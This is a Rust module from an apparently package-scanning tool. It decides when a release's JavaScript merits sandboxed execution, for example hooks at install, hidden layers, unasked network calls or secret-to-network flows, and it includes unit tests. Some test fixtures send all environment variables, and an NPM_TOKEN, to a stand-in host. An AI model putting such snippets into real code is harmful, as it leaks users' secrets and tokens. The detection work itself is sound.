//! What reading the code leaves open, and whether running it is worth while.

use stockade_model::{Capability, Trigger};

use crate::api;
use crate::command::CommandOrigin;
use crate::facts::Facts;
use crate::flow::FlowFact;
use crate::read::shell::Run;
use crate::unread::UnreadFact;
use crate::vocabulary::Source;

/// Why the release's code should be run in fake worlds.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Question {
    /// What was read would be worth a proof: an own program at install, code that was made at run time, a secret
    /// and a network at once.
    Proof,
    /// Something runs unasked that somebody took care to make unreadable: only running it tells what it does.
    Unread,
}

impl Facts<'_> {
    /// What running the code would answer; none where reading it has told all that matters.
    #[must_use]
    pub fn question(&self) -> Option<Question> {
        let is_kept_back = |unread: &UnreadFact| unread.trigger.runs_unasked() && unread.is_decoded;
        if self.unread().iter().any(is_kept_back) {
            return Some(Question::Unread);
        }
        let is_worth_a_proof = self.starts_own_program()
            || self.concealments.iter().any(|concealment| concealment.trigger.runs_unasked())
            || self.has_unasked_layer()
            || self.talks_unasked()
            || self.effects.flows.iter().any(carries)
            || self.effects.given_names.values().any(|name| !name.is_read && name.trigger.runs_unasked());
        is_worth_a_proof.then_some(Question::Proof)
    }

    /// Whether a hook starts a script of the release's, or a command that is not a build.
    fn starts_own_program(&self) -> bool {
        let is_hook = |origin: &CommandOrigin| {
            matches!(origin, CommandOrigin::Hook(_) | CommandOrigin::BuildFile | CommandOrigin::File)
        };
        let starts =
            |run: &Run| matches!(run, Run::NodeFile { .. } | Run::NodeCode { .. } | Run::NodePreload { .. });
        self.commands.iter().any(|command| {
            command.trigger == Trigger::Install
                && is_hook(&command.origin)
                && (command.runs.iter().any(starts) || !command.behaviours.is_empty())
        })
    }

    /// Whether the network is used where nobody asked: what goes there may take a way that the analysis does not
    /// follow.
    fn talks_unasked(&self) -> bool {
        self.effects.calls.iter().any(|call| {
            let capability = api::find(&call.api).and_then(|api| api.effect.capability());
            call.trigger.runs_unasked() && capability == Some(Capability::Network)
        })
    }

    /// Whether code that nobody asked for made code that acts.
    fn has_unasked_layer(&self) -> bool {
        let is_layer =
            |script: u32| self.scripts.get(script as usize).is_some_and(|script| script.made_at.is_some());
        self.effects.calls.iter().any(|call| call.trigger.runs_unasked() && is_layer(call.spot.script))
    }
}

/// Whether data goes where it could hurt without anybody asking.
fn carries(flow: &FlowFact) -> bool {
    flow.trigger.runs_unasked()
        && (flow.source.is_secret() && flow.sink.leaves_machine()
            || matches!(flow.source, Source::Network(_) | Source::Decoded) && !flow.sink.leaves_machine())
}

#[cfg(test)]
mod tests {
    use stockade_model::Limits;

    use super::*;
    use crate::imported::imported;
    use crate::{Context, gather};

    fn question(script: &str) -> Option<Question> {
        let tree = imported(script);
        let context = Context::default();
        gather(&tree, &context, &Limits::default()).question()
    }

    #[test]
    fn plain_code_leaves_no_question() {
        assert_eq!(question("exports.pad = (text) => text.padStart(8);"), None);
        assert_eq!(question("exports.get = (url) => fetch(url);"), None);
    }

    #[test]
    fn a_network_at_import_is_worth_a_proof() {
        let script = "const found = Object.keys(process.env).map((name) => process.env[name]);\n\
                      const url = new URL('https://x.invalid'); helper(url, found); fetch(url);";
        assert_eq!(question(script), Some(Question::Proof));
    }

    #[test]
    fn a_network_that_a_caller_asks_for_leaves_none() {
        assert_eq!(
            question("exports.send = () => fetch('https://x.invalid/' + process.env.NPM_TOKEN);"),
            None
        );
    }
}
